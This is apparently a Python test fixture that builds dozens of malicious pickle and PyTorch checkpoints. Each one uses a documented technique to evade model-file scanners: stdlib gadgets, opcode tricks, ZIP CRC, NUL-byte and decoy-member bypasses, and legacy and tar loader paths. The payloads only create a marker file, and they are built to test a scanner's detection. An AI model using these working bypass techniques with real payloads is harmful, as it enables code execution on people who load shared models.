"""Malicious checkpoints, one per technique from public advisories, written without torch.

Sources: picklescan's and modelscan's advisories and issues (attribute chains, submodules of
blocked modules, unusual stdlib gadgets, zip tricks), fickling's (runpy, timeit, cProfile,
pydoc.pipepager, ...), JFrog's three picklescan zero-days (file-extension, ZIP CRC and
deny-list subclass bypasses, 2025), torch's CVE-2025-32434 (the pre-0.4 tar path runs its
pickles) and the CPython FRAME issue (an opcode straddling a frame: the C and Python
unpicklers disagree). Each payload, if a loader ran it, would create `marker`; the tests
check that ocrdoctor reports it (OD101, exit 1), that the marker never appears, and, for the
payloads marked with a loader, that the payload really does run under that loader (in a child
process), so the corpus holds working exploits, not look-alikes.
"""

from __future__ import annotations

import io
import pickle
import shlex
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from tests import torchfile as tf
from tests.torchfile import call, global_, pickled, text, tuple_, value


@dataclass(frozen=True)
class Payload:
    name: str
    source: str  # where the technique is documented
    build: Callable[[Path], bytes]  # marker -> the file's bytes
    expects: str  # a name OD101 must list ("data.pkl" for archives whose pickles disagree)
    suffix: str = ".pt"
    loader: str | None = "pickle"  # what runs it for real: pickle.load, torch.load(weights_only=False), or None

    def __repr__(self) -> str:
        return self.name


def shell(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def module_of(name: str) -> bytes:
    return call(global_("importlib", "import_module"), text(name))


def simple(module: str, name: str, args: Callable[[Path], list[bytes]]) -> Callable[[Path], bytes]:
    """A protocol 2 pickle calling module.name(*args)."""
    return lambda m: pickled(call(global_(module, name), *args(m)))


def sh(m: Path) -> list[bytes]:
    return [text(shell(m))]


def argv(m: Path) -> list[bytes]:
    return [value(["touch", str(m)])]


def py(m: Path) -> list[bytes]:
    return [text(code(m))]


def stack_global(module: str, name: str, arg: bytes) -> bytes:
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + arg + b"\x85R."


def protocol0(m: Path) -> bytes:
    return b"cos\nsystem\n(S'" + shell(m).encode() + b"'\ntR."


def inst(m: Path) -> bytes:
    return b"(S'" + shell(m).encode() + b"'\nios\nsystem\n."


def obj(m: Path) -> bytes:
    return b"(cos\nsystem\nS'" + shell(m).encode() + b"'\no."


def reconstructor_popen(m: Path) -> bytes:
    """copyreg._reconstructor(Popen, Popen, argv) runs Popen.__init__(obj, argv) (protocol 1)."""
    popen = global_("subprocess", "Popen")
    return b"ccopy_reg\n_reconstructor\n(" + popen + popen + value(["touch", str(m)]) + b"tR."


MODULE_STATE = {"training": False, "_parameters": {}, "_buffers": {}, "_modules": {}}


def module_like(cls: bytes, arg: bytes) -> bytes:
    """copyreg._reconstructor(cls, cls, arg), then given an nn.Module's state (BUILD): what torch.save(model)
    looks like to a scanner that trusts the state, while the load already ran cls.__init__(obj, arg)."""
    state = b"}(" + b"".join(text(k) + value(v) for k, v in MODULE_STATE.items()) + b"ub"
    return call(global_("copyreg", "_reconstructor"), cls, cls, arg) + state


def reconstructed_popen_module(m: Path) -> bytes:
    return torch_zip(m, body=module_like(global_("subprocess", "Popen"), value(["touch", str(m)])))


def reconstructed_filehandler_module(m: Path) -> bytes:
    """logging.FileHandler.__init__ creates its file: the marker itself."""
    return torch_zip(m, body=module_like(global_("logging", "FileHandler"), text(str(m))))


def setstate_module(m: Path) -> bytes:
    """A class whose __setstate__ runs (BUILD) with an nn.Module's state: tests/payload_classes.py's Evil."""
    state = b"}(" + b"".join(text(k) + value(v) for k, v in {**MODULE_STATE, "marker": str(m)}.items()) + b"ub"
    return torch_zip(m, body=global_("tests.payload_classes", "SetState") + b")\x81" + state)


def export_member_decoy(m: Path) -> bytes:
    """torch.export's legacy member at the top of a torch.save zip whose data.pkl calls os.system: a scanner that
    takes the member for an export program never reads the pickle."""
    return torch_zip(m, body=call(global_("os", "system"), text(shell(m))),
                     members={"serialized_exported_program.json": b"{}"})


def computed_name(m: Path) -> bytes:
    """STACK_GLOBAL whose module name is computed at load time by operator.add('o', 's')."""
    module = call(global_("operator", "add"), text("o"), text("s"))
    return b"\x80\x04" + module + text("system") + b"\x93" + text(shell(m)) + b"\x85R."


def frame_straddle(m: Path) -> bytes:
    """A FRAME of 3 bytes ends inside a 4-byte opcode: the C unpickler reads on, Python's refuses."""
    body = b"\x8c\x02os" + b"\x8c\x06system\x93" + b"\x8c" + bytes([len(shell(m))]) + shell(m).encode() + b"\x85R."
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + body + b"."


def memo_operands(m: Path) -> bytes:
    """STACK_GLOBAL operands memoized, popped, and fetched back with BINGET."""
    return (b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93" + text(shell(m)) + b"\x85R.")


def mark_hidden(m: Path) -> bytes:
    """Torch's names pushed under a MARK and discarded: the real operands are os, system."""
    return (b"\x80\x04\x8c\x02os\x8c\x06system(\x8c\x0ctorch._utils\x8c\x12_rebuild_tensor_v2t0\x93"
            + text(shell(m)) + b"\x85R.")


def nested_loads(module: str) -> Callable[[Path], bytes]:
    return lambda m: pickled(call(global_(module, "loads"), value(pickled(call(global_("os", "system"),
                                                                               text(shell(m)))))))


def rebuild_from_type(m: Path) -> bytes:
    """torch._tensor._rebuild_from_type_v2(os.system, Tensor, (cmd,), {}) calls its first argument."""
    return pickled(call(global_("torch._tensor", "_rebuild_from_type_v2"), global_("os", "system"),
                        global_("torch", "Tensor"), tuple_(text(shell(m))), b"}"))


def load_from_bytes(m: Path) -> bytes:
    """torch.storage._load_from_bytes(b) runs torch.load(b, weights_only=False) on embedded bytes."""
    inner = io.BytesIO()
    inner.name = "inner.pt"
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("inner/data.pkl", pickled(call(global_("os", "system"), text(shell(m)))))
        archive.writestr("inner/version", "3\n")
    return pickled(call(global_("torch.storage", "_load_from_bytes"), value(inner.getvalue())))


def evil_pickle(m: Path) -> bytes:
    return pickled(call(global_("os", "system"), text(shell(m))))


BENIGN = {"w": np.arange(6, dtype=np.float32).reshape(2, 3) + 0.5}


def torch_zip(m: Path, body: bytes | None = None, **kwargs) -> bytes:
    path = m.parent / f".build-{m.name}.zip"
    tf.save_zip(path, BENIGN, body=body, **kwargs)
    data = path.read_bytes()
    path.unlink()
    return data


def zip_payload(m: Path) -> bytes:
    return torch_zip(m, body=call(global_("os", "system"), text(shell(m))))


def zip_case_decoy(m: Path) -> bytes:
    return torch_zip(m, members={"archive/DATA.PKL": evil_pickle(m)})


def zip_duplicate(m: Path) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        return torch_zip(m, members={"archive/data.pkl": evil_pickle(m)})


def zip_nul_decoy(m: Path) -> bytes:
    """The real data.pkl is malicious; a decoy named 'archive/data.pkl\\0decoy' (zipfile cuts it at the NUL,
    and keeps it, the later one) is benign. miniz matches the exact name."""
    data = torch_zip(m, body=call(global_("os", "system"), text(shell(m))),
                     members={"archive/data.pkl_decoy": pickle.dumps({"w": 1}, protocol=2)})
    return data.replace(b"archive/data.pkl_decoy", b"archive/data.pkl\x00decoy")


def zip_prepended(m: Path) -> bytes:
    """A pickle in front of a benign torch zip: torch.load sees no zip magic and unpickles the front."""
    return evil_pickle(m) + torch_zip(m)


def zip_bad_crc(m: Path) -> bytes:
    """The CRC of data.pkl is wrong: Python's zipfile refuses the member, torch (miniz, CRC off) reads it."""
    data = bytearray(zip_payload(m))
    good = zlib.crc32(pickled(call(global_("os", "system"), text(shell(m))))).to_bytes(4, "little")
    bad = (int.from_bytes(good, "little") ^ 0xFFFFFFFF).to_bytes(4, "little")
    return bytes(data).replace(good, bad)


def zip_deflated(m: Path) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("archive/data.pkl", evil_pickle(m), compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("archive/version", "3\n")
    return buf.getvalue()


def zip_extra_member(m: Path) -> bytes:
    return torch_zip(m, members={"archive/extra.pkl": evil_pickle(m)})


def _bytes_of(m: Path, suffix: str, write: Callable[[Path], object]) -> bytes:
    """What a writer of tests/torchfile puts in a file, as bytes (the file is removed)."""
    path = m.parent / f".build-{m.name}{suffix}"
    write(path)
    data = path.read_bytes()
    path.unlink()
    return data


def legacy(part: int) -> Callable[[Path], bytes]:
    return lambda m: _bytes_of(m, ".pt", lambda path: tf.save_legacy(path, BENIGN, parts={part: evil_pickle(m)}))


def legacy_text_magic(m: Path) -> bytes:
    """The magic number as a protocol 0 LONG, then the payload as the object."""
    magic = pickle.dumps(tf.LEGACY_MAGIC, protocol=0)
    return _bytes_of(m, ".pt", lambda path: tf.save_legacy(path, BENIGN, magic=magic, parts={3: evil_pickle(m)}))


def tar(member: str) -> Callable[[Path], bytes]:
    return lambda m: _bytes_of(m, ".tar", lambda path: tf.save_tar(path, BENIGN, parts={member: evil_pickle(m)}))


def hook_reference(m: Path) -> bytes:
    """posix.system kept (not called) in a tensor's backward hooks."""
    hooks = call(global_("collections", "OrderedDict"), b"(" + tuple_(tf.integer(0), global_("posix", "system")) + b"l")
    tensor = call(global_("torch._utils", "_rebuild_tensor_v2"),
                  tuple_(text("storage"), global_("torch", "FloatStorage"), text("0"), text("cpu"),
                         tf.integer(6)) + b"Q",
                  tf.integer(0), tuple_(tf.integer(6)), tuple_(tf.integer(1)), b"\x89", hooks)
    return torch_zip(m, body=call(global_("collections", "OrderedDict")) + b"(" + text("w") + tensor + b"u")


PAYLOADS = [
    Payload("os-system-protocol-0", "classic __reduce__ payload, text protocol", protocol0, "os.system", ".pkl"),
    Payload("posix-system-protocol-2", "classic, binary protocol", simple("posix", "system", sh), "posix.system"),
    Payload("os-system-stack-global", "protocol 4 STACK_GLOBAL", lambda m: stack_global("os", "system", text(shell(m))),
            "os.system", ".bin"),
    Payload("subprocess-popen", "picklescan deny-list", simple("subprocess", "Popen", argv), "subprocess.Popen"),
    Payload("subprocess-run", "picklescan deny-list", simple("subprocess", "run", argv), "subprocess.run"),
    Payload("subprocess-call", "picklescan deny-list", simple("subprocess", "call", argv), "subprocess.call"),
    Payload("subprocess-check-call", "picklescan deny-list", simple("subprocess", "check_call", argv),
            "subprocess.check_call"),
    Payload("subprocess-check-output", "picklescan deny-list", simple("subprocess", "check_output", argv),
            "subprocess.check_output"),
    Payload("subprocess-getoutput", "picklescan deny-list", simple("subprocess", "getoutput", sh),
            "subprocess.getoutput"),
    Payload("subprocess-getstatusoutput", "picklescan deny-list", simple("subprocess", "getstatusoutput", sh),
            "subprocess.getstatusoutput"),
    Payload("builtins-eval", "modelscan unsafe globals", lambda m: pickled(call(
        global_("builtins", "eval"), text(f"__import__('os').system({shell(m)!r})"))), "builtins.eval"),
    Payload("builtins-exec", "modelscan unsafe globals", simple("builtins", "exec", py), "builtins.exec"),
    Payload("python2-builtin-eval", "Python 2 names (__builtin__), mapped by the unpickler",
            lambda m: pickled(call(global_("__builtin__", "eval"), text(f"__import__('os').system({shell(m)!r})"))),
            "builtins.eval"),
    Payload("python2-commands-getoutput", "Python 2 names (commands -> subprocess)",
            simple("commands", "getoutput", sh), "subprocess.getoutput"),
    Payload("getattr-import-chain", "attribute chain: getattr(__import__('os'), 'system')", lambda m: pickled(call(
        call(global_("builtins", "getattr"), call(global_("builtins", "__import__"), text("os")), text("system")),
        text(shell(m)))), "builtins.getattr"),
    Payload("operator-attrgetter", "picklescan advisory: operator.attrgetter chain", lambda m: pickled(call(
        call(call(global_("operator", "attrgetter"), text("system")), module_of("os")), text(shell(m)))),
        "operator.attrgetter"),
    Payload("operator-methodcaller", "picklescan advisory: operator.methodcaller", lambda m: pickled(call(
        call(global_("operator", "methodcaller"), text("system"), text(shell(m))), module_of("os"))),
        "operator.methodcaller"),
    Payload("private-operator-methodcaller", "JFrog zero-day: a submodule (_operator) of a blocked module",
            lambda m: pickled(call(call(global_("_operator", "methodcaller"), text("system"), text(shell(m))),
                                   module_of("os"))), "_operator.methodcaller"),
    Payload("pkgutil-resolve-name", "picklescan advisory: pkgutil.resolve_name", lambda m: pickled(call(
        call(global_("pkgutil", "resolve_name"), text("os:system")), text(shell(m)))), "pkgutil.resolve_name"),
    Payload("pydoc-locate", "attribute chain through pydoc.locate", lambda m: pickled(call(
        call(global_("pydoc", "locate"), text("os.system")), text(shell(m)))), "pydoc.locate"),
    Payload("importlib-import-module", "importlib.import_module + getattr", lambda m: pickled(call(
        call(global_("builtins", "getattr"), module_of("os"), text("system")), text(shell(m)))),
        "importlib.import_module"),
    Payload("runpy-run-code", "fickling: runpy._run_code", lambda m: pickled(call(
        global_("runpy", "_run_code"), text(code(m)), b"}")), "runpy._run_code"),
    Payload("timeit-setup", "fickling: timeit runs its setup string", lambda m: pickled(call(
        global_("timeit", "timeit"), text("pass"), text(code(m)))), "timeit.timeit"),
    Payload("cprofile-run", "fickling: cProfile.run", simple("cProfile", "run", py), "cProfile.run"),
    Payload("profile-run", "fickling: profile.run", simple("profile", "run", py), "profile.run"),
    Payload("code-interpreter", "code.InteractiveInterpreter().runsource", lambda m: pickled(call(
        call(global_("operator", "methodcaller"), text("runsource"), text(code(m))),
        call(global_("code", "InteractiveInterpreter")))), "code.InteractiveInterpreter"),
    Payload("functools-partial", "a call hidden in functools.partial", lambda m: pickled(call(
        call(global_("functools", "partial"), global_("os", "system"), text(shell(m))))), "functools.partial"),
    Payload("pathlib-dotted-os-system", "dotted name reaching os through a harmless module (protocol 4)",
            lambda m: stack_global("pathlib", "os.system", text(shell(m))), "pathlib.os.system"),
    Payload("torch-dotted-os-system", "dotted name: torch + os.system", lambda m: stack_global(
        "torch", "os.system", text(shell(m))), "torch.os.system", loader="torch"),
    Payload("numpy-runstring", "picklescan advisory: numpy.testing runstring", lambda m: pickled(call(
        global_("numpy.testing._private.utils", "runstring"), text(code(m)), b"}")),
        "numpy.testing._private.utils.runstring"),
    Payload("torch-save-writes", "a torch.* function outside the allowlist", lambda m: pickled(call(
        global_("torch", "save"), tf.integer(1), text(str(m)))), "torch.save", loader="torch"),
    Payload("torch-load-from-bytes", "torch.storage._load_from_bytes runs torch.load(weights_only=False)",
            load_from_bytes, "torch.storage._load_from_bytes", loader="torch"),
    Payload("torch-rebuild-from-type-func", "the allowlisted _rebuild_from_type_v2 calls its argument",
            rebuild_from_type, "os.system", loader="torch"),
    Payload("builtins-open", "a file written at load", lambda m: pickled(call(
        global_("builtins", "open"), text(str(m)), text("w"))), "builtins.open"),
    Payload("io-open", "a file written at load", lambda m: pickled(call(
        global_("io", "open"), text(str(m)), text("w"))), "io.open"),
    Payload("posix-mkdir", "a filesystem call", lambda m: pickled(call(global_("posix", "mkdir"), text(str(m)))),
            "posix.mkdir"),
    Payload("pathlib-touch", "a harmless class made to act: methodcaller('touch')(Path(...))", lambda m: pickled(call(
        call(global_("operator", "methodcaller"), text("touch")), call(global_("pathlib", "PosixPath"), text(str(m))))),
        "operator.methodcaller"),
    Payload("zipfile-create", "an unusual stdlib gadget", lambda m: pickled(call(
        global_("zipfile", "ZipFile"), text(str(m)), text("w"))), "zipfile.ZipFile"),
    Payload("sqlite3-connect", "an unusual stdlib gadget", lambda m: pickled(call(
        global_("sqlite3", "connect"), text(str(m)))), "sqlite3.connect"),
    Payload("gzip-open", "an unusual stdlib gadget", lambda m: pickled(call(
        global_("gzip", "open"), text(str(m)), text("wb"))), "gzip.open"),
    Payload("pydoc-pipepager", "fickling advisory: pydoc.pipepager runs a shell command", lambda m: pickled(call(
        global_("pydoc", "pipepager"), text("x"), text(shell(m)))), "pydoc.pipepager"),
    Payload("uuid-get-command-stdout", "picklescan advisory: uuid._get_command_stdout", lambda m: pickled(call(
        global_("uuid", "_get_command_stdout"), text("touch"), text(str(m)))), "uuid._get_command_stdout"),
    Payload("os-popen", "a shell through os.popen", simple("os", "popen", sh), "os.popen"),
    Payload("copyreg-reconstructor-popen", "copyreg._reconstructor runs its base's __init__",
            reconstructor_popen, "copyreg._reconstructor(subprocess.Popen, subprocess.Popen)"),
    Payload("inst-opcode", "INST opcode (protocol 0)", inst, "os.system"),
    Payload("obj-opcode", "OBJ opcode (protocol 1)", obj, "os.system"),
    Payload("computed-global-name", "STACK_GLOBAL with a computed module name", computed_name, "operator.add"),
    Payload("pickle-loads-nested", "a pickle inside a pickle", nested_loads("pickle"), "pickle.loads"),
    Payload("c-pickle-loads-nested", "a pickle inside a pickle (_pickle)", nested_loads("_pickle"), "_pickle.loads"),
    Payload("frame-straddle", "python/cpython#154848: an opcode straddling a FRAME", frame_straddle, "os.system"),
    Payload("memo-operands", "STACK_GLOBAL operands fetched from the memo", memo_operands, "os.system"),
    Payload("mark-hidden-operands", "decoy torch names under a MARK", mark_hidden, "os.system"),
    Payload("safetensors-named-pickle", "JFrog zero-day: the file's extension decides how it is scanned",
            evil_pickle, "os.system", ".safetensors"),
    Payload("torch-zip", "a torch.save zip with the payload in data.pkl", zip_payload, "os.system", loader="torch"),
    Payload("zip-case-decoy", "modelscan/picklescan: data.pkl and DATA.PKL (miniz ignores case)",
            zip_case_decoy, "data.pkl", loader=None),
    Payload("zip-duplicate-member", "two members named data.pkl", zip_duplicate, "data.pkl", loader=None),
    Payload("zip-nul-decoy", "picklescan: a NUL byte in a member name (zipfile cuts it, miniz does not)",
            zip_nul_decoy, "os.system", loader="torch"),
    Payload("zip-prepended-pickle", "a pickle in front of the archive: torch reads it as a legacy file",
            zip_prepended, "os.system", loader="torch"),
    Payload("zip-bad-crc", "JFrog zero-day: a wrong CRC (zipfile refuses, torch reads)", zip_bad_crc, "os.system",
            loader="torch"),
    Payload("zip-deflated", "a compressed data.pkl (miniz inflates it)", zip_deflated, "os.system", loader="torch"),
    Payload("zip-extra-pickle", "a second pickle member in the archive", zip_extra_member, "os.system", loader=None),
    Payload("legacy-magic", "the first pickle of a legacy file runs before the magic is checked", legacy(0),
            "os.system", loader="torch"),
    Payload("legacy-protocol", "the legacy file's second pickle", legacy(1), "os.system", loader="torch"),
    Payload("legacy-sys-info", "the legacy file's third pickle", legacy(2), "os.system", loader="torch"),
    Payload("legacy-object", "the legacy file's object", legacy(3), "os.system", loader="torch"),
    Payload("legacy-storage-keys", "the legacy file's storage key list", legacy(4), "os.system", loader="torch"),
    Payload("legacy-text-magic", "the magic as a protocol 0 LONG", legacy_text_magic, "os.system", loader="torch"),
    Payload("tar-storages", "CVE-2025-32434: the pre-0.4 tar path unpickles its members", tar("storages"),
            "os.system", ".tar", loader="torch"),
    Payload("tar-tensors", "CVE-2025-32434: the tar path's tensors member", tar("tensors"), "os.system", ".tar",
            loader="torch"),
    Payload("tar-pickle", "CVE-2025-32434: the tar path's pickle member", tar("pickle"), "os.system", ".tar",
            loader="torch"),
    Payload("backward-hook-reference", "posix.system kept, never called, in a tensor's hooks", hook_reference,
            "posix.system", loader=None),
    Payload("reconstructor-popen-module-state", "issue 26: copyreg._reconstructor(Popen, Popen, argv) given a "
            "module's state", reconstructed_popen_module, "subprocess.Popen", loader="torch"),
    Payload("reconstructor-filehandler-module-state", "issue 26: logging.FileHandler.__init__ creates a file",
            reconstructed_filehandler_module, "logging.FileHandler", loader="torch"),
    Payload("setstate-module-state", "issue 26: a class's own __setstate__ given a module's state",
            setstate_module, "tests.payload_classes.SetState", loader="torch"),
    Payload("export-member-decoy", "issue 26: an export program's member name beside a torch.save pickle",
            export_member_decoy, "os.system", loader=None),
]
